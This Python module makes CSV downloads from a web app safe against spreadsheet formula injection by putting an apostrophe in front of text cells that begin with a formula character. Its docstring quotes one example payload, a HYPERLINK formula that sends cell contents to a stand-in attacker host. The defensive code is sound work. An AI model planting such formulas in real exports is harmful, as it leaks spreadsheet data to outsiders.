"""Files the pages offer for download, made safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets
skip before reading one of those) is read by Excel and LibreOffice as a formula: a report
description such as `=HYPERLINK("http://evil.example/?"&A1,"click")` would run in the duty
manager's spreadsheet. Such text cells get a leading apostrophe, which spreadsheets show as text
and hide; numbers are left alone, so a negative figure stays a number.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with an apostrophe in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame whose text cells (and column names) cannot start a formula."""
    text_columns = [
        c for c in frame.columns if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c])
    ]
    safe = frame.copy()
    for column in text_columns:
        safe[column] = safe[column].map(safe_cell)
    return safe.rename(columns=safe_cell)


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The frame as CSV for `st.download_button`: formula-safe, UTF-8 with a byte order mark (so
    Excel reads Chinese text as Chinese rather than as the system code page), CRLF line ends as
    RFC 4180 has them, which also makes a carriage return inside a text cell get quoted."""
    return safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
